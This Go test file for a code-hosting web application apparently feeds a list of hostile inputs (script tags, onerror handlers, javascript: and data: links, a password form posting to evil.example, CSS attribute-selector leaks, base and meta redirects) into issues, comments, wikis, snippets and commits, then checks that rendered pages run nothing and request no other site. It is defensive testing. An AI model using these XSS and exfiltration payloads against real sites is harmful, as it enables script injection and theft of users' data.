package web

import (
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"sallyport.dev/internal/db/dbtest"
	"sallyport.dev/internal/git/gittest"
)

// hostileTexts are what somebody may write who wants a reader's browser to run
// something, to ask another site for something, or to show what isn't ours. What
// rendering makes of each alone is package markup's to test.
func hostileTexts() map[string]string {
	return map[string]string{
		"a script":               "<script>alert(1)</script>",
		"a script of elsewhere":  `<script src="https://evil.example/x.js"></script>`,
		"a broken script":        `</p></div></article></main></body></html><script>alert(1)</script>`,
		"out of a field":         `</textarea></title></style></template><img src=x onerror=alert(1)>"'><svg onload=alert(1)>`,
		"a link that runs":       "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](<java\tscript:alert(1)>) <javascript:alert(1)>",
		"a link by entities":     `<a href="&#106;ava&#10;script:alert(1)">x</a> <a href=" vbscript:x">y</a>`,
		"a reference that runs":  "[x][r]\n\n[r]: javascript:alert(1)",
		"a link of data":         "[x](data:text/html;base64,PHNjcmlwdD4=)",
		"an image of data":       "![x](data:image/svg+xml;base64,PHN2Zz4=) ![y](data:image/png;base64,iVBORw0KGgo=)",
		"an image of elsewhere":  "![x](https://evil.example/track.gif) ![y](//evil.example/track.gif) ![z](\\\\evil.example\\track.gif) ![w](/\\evil.example/x)",
		"many images":            `<img srcset="//evil.example/x.png 1x" src="x.png"><picture><source srcset="https://evil.example/y"><img src=y></picture>`,
		"media":                  `<video src="//evil.example/x" poster="//evil.example/y"></video><audio src="https://evil.example/z"></audio>`,
		"a link without scheme":  "[x](//evil.example) [y](/\\evil.example) [z](////evil.example) [w](\\\\evil.example)",
		"a frame":                `<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><object data="//evil.example/x"></object><embed src="//evil.example/x">`,
		"a form":                 `<form action="https://evil.example/take"><input name="password" type="password"><button formaction="//evil.example">Go</button></form>`,
		"a style":                `<style>@import url(//evil.example/x.css); body { background: url(//evil.example/?c) }</style>`,
		"a style of an element":  `<p style="position:fixed;inset:0;background:url(https://evil.example/leak)">x</p>`,
		"a sheet":                `<link rel="stylesheet" href="//evil.example/x.css"><link rel="prefetch" href="//evil.example/p">`,
		"leaking by attributes":  `<style>input[value^="a"]{background:url(//evil.example/a)}</style><input value="a">`,
		"another base":           `<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example"><meta charset="utf-7">`,
		"events":                 `<img src=x onerror=alert(1)><details open ontoggle=alert(1)>x</details><input autofocus onfocus=alert(1)><b onmouseover=alert(1)>x</b>`,
		"a picture that runs":    `<svg onload=alert(1)><script>alert(1)</script><use href="//evil.example/x#y"/><image href="//evil.example/z"/></svg>`,
		"formulas":               `<math href="javascript:alert(1)"><mi xlink:href="javascript:alert(1)">x</mi></math>`,
		"a comment":              "<!-- <script>alert(1)</script> --> <!--><img src=x onerror=alert(1)>-->",
		"a comment without end":  "words <!-- <b>",
		"other markup":           `<![CDATA[<script>alert(1)</script>]]><?php echo 1 ?><!DOCTYPE html>`,
		"parsers that differ":    `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp>`,
		"names that are taken":   `<div id="main" name="cookie" class="blocked" data-theme-switch data-action="delete">x</div><a id=x name=getElementById>x</a>`,
		"a window that knows us": `<a href="https://evil.example" target="_blank" ping="//evil.example/ping" rel="opener">x</a>`,
		"code":                   "```html\n<script>alert(1)</script>\n```\n\n    <script>alert(1)</script>\n\n`<script>alert(1)</script>`\n\n```\"><img src=x onerror=alert(1)>\nx\n```",
		"a title":                `[x](/a "\"><script>alert(1)</script>") ![y](b.png '"onerror="alert(1)')`,
		"a heading":              "# x {#content onclick=alert(1)}\n\n## <script>alert(1)</script>",
		"a table":                "| <script>alert(1)</script> | b |\n|---|:--|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
		"a link of a wiki":       `[[javascript:alert(1)]] [[x|"><script>alert(1)</script>]] [[//evil.example]] [[../../../login]]`,
		"references":             `#1<script>alert(1)</script> @ada"onclick=alert(1) <b onclick=alert(1)>#1</b>`,
		"deep quotes":            strings.Repeat(">", 3000) + " x",
		"deep lists":             strings.Repeat("- ", 1500) + "x",
		"deep brackets":          strings.Repeat("[", 3000) + strings.Repeat("](", 3000),
		"deep markup":            strings.Repeat("<div>", 3000) + "<script>alert(1)</script>",
		"signs":                  "\u202e<script>\u202calert(1)</script>\u2028<img src=x onerror=alert(1)>",
	}
}

// wordsBefore stands before each text, so that a page is known to show it.
const wordsBefore = "Words before.\n\n"

// TestHostileTexts puts each text where people write: into issues, comments,
// snippets, wikis and files, saved and looked at before saving. Nothing of it
// may run, and no page asks another site for anything.
func TestHostileTexts(t *testing.T) {
	w := newWorld(t, dbtest.SQLite(t), testSite)
	b := w.signedIn("ada")
	b.founds()
	const issues, wiki, files = "/acme/vault/issues", "/acme/vault/wiki", "/acme/vault/src"
	b.leads(b.post(issues+"/new", "title", "First", "kind", "bug", "priority", "minor"), issues+"/1")
	dir := w.repositoryDir()
	pages, n := 0, 1
	for name, text := range hostileTexts() {
		n++
		at, whole := fmt.Sprintf("%s/%d", issues, n), wordsBefore+text
		raised := []string{"title", "On " + name, "kind", "bug", "priority", "minor", "text", whole}
		b.leads(b.post(issues+"/new", raised...), at)
		b.leads(b.post(at, "text", whole), at)
		base := b.get(at+"/edit").find(t, `name="base" value="(\d+)"`)
		b.leads(b.post(fmt.Sprint(at, "/comments/1"), "text", whole+"\n\nedited"), at)
		title := fmt.Sprintf("Page %d", n)
		b.leads(b.post(wiki+"/_new", "name", title, "text", whole), wiki+"/"+title)
		made := b.post("/acme/snippets/new", "title", name, "visibility", "private", "files", "1", "name-0", "README.md", "text-0", whole)
		snippet := made.Header().Get("Location")
		b.post(snippet+"/comments", "text", whole)
		branch := fmt.Sprint("b", n)
		blob := gittest.Object(t, dir, "blob", []byte(wordsBefore+text))
		tree := gittest.Tree(t, dir, gittest.Entry{Mode: "100644", Name: "README.md", Object: blob})
		gittest.Ref(t, dir, "refs/heads/"+branch, gittest.Commit(t, dir, tree, whole))
		for place, shown := range map[string]func() page{
			"an issue":                    func() page { return b.get(at) },
			"an issue, previewed":         func() page { return b.post(issues+"/new", append(raised, "preview", "1")...) },
			"an edited issue, previewed":  func() page { return b.post(at+"/edit", append(raised, "base", base, "preview", "1")...) },
			"a comment, previewed":        func() page { return b.post(at, "text", whole, "preview", "1") },
			"a comment and what it was":   func() page { return b.get(at + "/comments/1") },
			"a comment edited, previewed": func() page { return b.post(at+"/comments/1", "text", whole, "preview", "1") },
			"a form that is refused":      func() page { return b.post(issues+"/new", "title", "", "text", whole) },
			"a page":                      func() page { return b.get(wiki + "/" + url.PathEscape(title)) },
			"a page, previewed":           func() page { return b.post(wiki+"/_edit/Home", "text", whole, "base", "", "preview", "1") },
			"the search of the wiki":      func() page { return b.get(wiki + "/_search?q=before") },
			"a snippet":                   func() page { return b.get(snippet) },
			"a README":                    func() page { return b.get(files + "/" + branch) },
			"a file":                      func() page { return b.get(files + "/" + branch + "/README.md") },
			"the message of a commit":     func() page { return b.get("/acme/vault/commits/" + branch) },
		} {
			p := shown()
			pages++
			if p.Code != 200 && (p.Code != 400 || place != "a form that is refused") || !strings.Contains(p.text, "Words before.") && place != "the message of a commit" {
				t.Errorf("%s in %s: %d, or it isn't shown: %.300s", name, place, p.Code, p.text)
			}
			for _, fault := range faults(p.Body.String()) {
				t.Errorf("%s in %s: %s", name, place, fault)
			}
			if policy := p.Header().Get("Content-Security-Policy"); !strings.Contains(policy, "default-src 'none'") || strings.Contains(policy, "unsafe") || strings.Contains(policy, "*") {
				t.Errorf("%s in %s: the page's policy is %q", name, place, policy)
			}
		}
	}
	t.Logf("%d pages", pages)
}

// faults reads a page as a browser does and gives what in it runs, asks another
// site for something, or leads on without saying so.
func faults(page string) (found []string) {
	document, err := html.Parse(strings.NewReader(page))
	if err != nil {
		return []string{err.Error()}
	}
	fault := func(format string, args ...any) { found = append(found, fmt.Sprintf(format, args...)) }
	for n := range document.Descendants() {
		switch {
		case n.Type == html.CommentNode:
			fault("a comment: %.100q", n.Data)
		case n.Type != html.ElementNode:
			continue
		case slices.Contains([]string{"iframe", "frame", "object", "embed", "base", "style", "math", "template", "noscript", "xmp", "applet", "picture", "source", "video", "audio", "image"}, n.Data):
			fault("<%s>", n.Data)
		case n.Data == "script" && n.FirstChild != nil:
			fault("a script in the page: %.100q", n.FirstChild.Data)
		}
		for _, a := range n.Attr {
			if why := attributeFault(n.Data, a); why != "" {
				fault("<%s %s=%.100q>: %s", n.Data, a.Key, a.Val, why)
			}
		}
	}
	return found
}

// attributeFault says what is wrong with an attribute; empty: nothing.
func attributeFault(element string, a html.Attribute) string {
	own := strings.HasPrefix(a.Val, "/") && !strings.HasPrefix(a.Val, "//") && !strings.Contains(a.Val, `\`)
	address, err := url.Parse(a.Val)
	switch {
	case strings.HasPrefix(a.Key, "on"), slices.Contains([]string{"style", "srcset", "srcdoc", "poster", "background", "ping", "http-equiv", "data"}, a.Key):
		return "it has no place in a page"
	case a.Key == "src" || a.Key == "href" && element != "a":
		if !own {
			return "it is asked of another site"
		}
	case a.Key == "action" || a.Key == "formaction":
		if a.Val != "" && !own && !strings.HasPrefix(a.Val, "?") {
			return "it is sent to another site"
		}
	case a.Key == "href" && err != nil:
		return err.Error()
	case a.Key == "href" && address.Scheme != "" && !slices.Contains([]string{"http", "https", "mailto"}, address.Scheme):
		return "it may run"
	case a.Key == "href" && address.Scheme == "" && address.Host != "", a.Key == "href" && strings.Contains(a.Val, `\`):
		return "it leads to another site, and doesn't look so"
	case a.Key == "target" && a.Val != "_self", a.Key == "rel" && strings.Contains(" "+a.Val+" ", " opener "):
		return "it opens a window that knows us"
	}
	return ""
}
